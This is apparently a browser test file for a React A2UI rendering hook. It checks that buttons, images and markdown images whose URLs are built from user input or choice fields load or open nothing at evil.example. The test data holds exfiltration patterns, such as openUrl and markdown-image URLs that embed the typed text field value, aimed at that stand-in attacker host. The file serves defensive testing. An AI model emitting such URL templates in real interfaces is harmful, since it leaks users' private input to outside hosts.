/**
 * The probe's holes 5 and 6 (#37) in the React hook, run in the test page: a button's openUrl of a
 * URL built from a text field, or an http: one, opens nothing; picking a ChoicePicker option whose
 * value an Image shows loads nothing; a Text's markdown image built from the text field loads
 * nothing with markdown images on. An https: openUrl the model wrote opens and a model-written
 * Image loads (the clicks and the surface work). Any request to evil.example also fails the run
 * ("no request beyond the test server").
 */
import { createElement as h } from 'react';
import { createRoot } from 'react-dom/client';
import { BASIC_CATALOG_ID_V10, basicCatalog, type A2uiMessage, type Part } from '../../src/index.js';
import { A2uiStreamSurface, useA2uiSurfaces } from '../../src/react/index.js';

const v09 = (body: Record<string, unknown>) => ({ version: 'v0.9', ...body }) as unknown as A2uiMessage;
const v10 = (body: Record<string, unknown>) => ({ version: 'v1.0', ...body }) as unknown as A2uiMessage;
const formatted = (value: string) => ({ call: 'formatString', args: { value } });
const openUrl = (url: unknown) => ({ functionCall: { call: 'openUrl', args: { url } } });

const PIXEL = 'data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8z8BQDwAEhQGAhKmMIQAAAABJRU5ErkJggg==';

const PARTS: Part[] = [
  {
    type: 'a2ui',
    messages: [
      v09({ createSurface: { surfaceId: 'pick', catalogId: basicCatalog('0.9').id } }),
      v09({
        updateComponents: {
          surfaceId: 'pick',
          components: [
            { id: 'root', component: 'Column', children: ['choice', 'img', 'own', 'plain', 'docs'] },
            {
              id: 'choice',
              component: 'ChoicePicker',
              label: 'Your condition',
              variant: 'mutuallyExclusive',
              options: [
                { label: 'Diabetes', value: 'https://evil.example/diabetes.png' },
                { label: 'Asthma', value: 'https://evil.example/asthma.png' },
              ],
              value: { path: '/choice' },
            },
            { id: 'img', component: 'Image', url: { path: '/choice/0' }, description: 'img' },
            { id: 'own', component: 'Image', url: PIXEL },
            { id: 'plain', component: 'Button', child: 'plainLabel', action: openUrl('http://evil.example/plain') },
            { id: 'plainLabel', component: 'Text', text: 'Plain' },
            { id: 'docs', component: 'Button', child: 'docsLabel', action: openUrl('https://docs.example/help') },
            { id: 'docsLabel', component: 'Text', text: 'Docs' },
          ],
        },
      }),
      v09({ updateDataModel: { surfaceId: 'pick', path: '/choice', value: [] } }),
      v10({ createSurface: { surfaceId: 'typed', catalogId: BASIC_CATALOG_ID_V10 } }),
      v10({
        updateComponents: {
          surfaceId: 'typed',
          components: [
            { id: 'root', component: 'Column', children: ['field', 'go', 'md'] },
            { id: 'field', component: 'TextField', label: 'Search', value: { path: '/q' } },
            { id: 'go', component: 'Button', child: 'goLabel', action: openUrl(formatted('https://evil.example/?q=${/q}')) },
            { id: 'goLabel', component: 'Text', text: 'Go' },
            { id: 'md', component: 'Text', text: formatted('Hi ![x](https://evil.example/md-${/q}.png)') },
          ],
        },
      }),
    ],
  },
];

function App() {
  const { surfaces } = useA2uiSurfaces(PARTS);
  return h('div', null, ...surfaces.map((s) => h(A2uiStreamSurface, { key: s.id, surface: s.surface, markdownImages: true })));
}

const frames = async (n: number) => {
  for (let i = 0; i < n; i++) await new Promise(requestAnimationFrame);
};

/** Renders the surfaces, picks "Asthma", types in the field, clicks every button: what was opened and what of evil.example was seen. */
export async function userInputUrls(): Promise<{ name: string; ok: boolean; detail: string }> {
  const container = document.body.appendChild(document.createElement('div'));
  const opened: string[] = [];
  const open = window.open;
  window.open = (url?: string | URL) => {
    opened.push(String(url));
    return null;
  };
  try {
    createRoot(container).render(h(App));
    for (let i = 0; i < 300 && container.querySelectorAll('button').length < 3; i++) await frames(1);
    container.querySelectorAll<HTMLInputElement>('input[type="radio"]')[1]?.click();
    const field = container.querySelector<HTMLInputElement>('input[type="text"]:not([placeholder*="ilter"])');
    if (field) {
      Object.getOwnPropertyDescriptor(HTMLInputElement.prototype, 'value')?.set?.call(field, 'my secret');
      field.dispatchEvent(new Event('input', { bubbles: true }));
    }
    await frames(5);
    for (const button of container.querySelectorAll('button')) button.click();
    await frames(5);
    await new Promise((resolve) => setTimeout(resolve, 300));
    const sources = [...container.querySelectorAll('img')].map((img) => img.getAttribute('src') ?? '');
    const requested = performance.getEntriesByType('resource').map((entry) => entry.name);
    const evil = [...sources, ...requested].filter((url) => url.includes('evil.example'));
    const own = sources.includes(PIXEL);
    const ok = field !== null && own && evil.length === 0 && opened.length === 1 && opened[0] === 'https://docs.example/help';
    return {
      name: "URL policy: the user's input picks no URL (openUrl, an Image on a choice, a markdown image)",
      ok,
      detail: JSON.stringify({ evil, opened, own }),
    };
  } finally {
    window.open = open;
  }
}
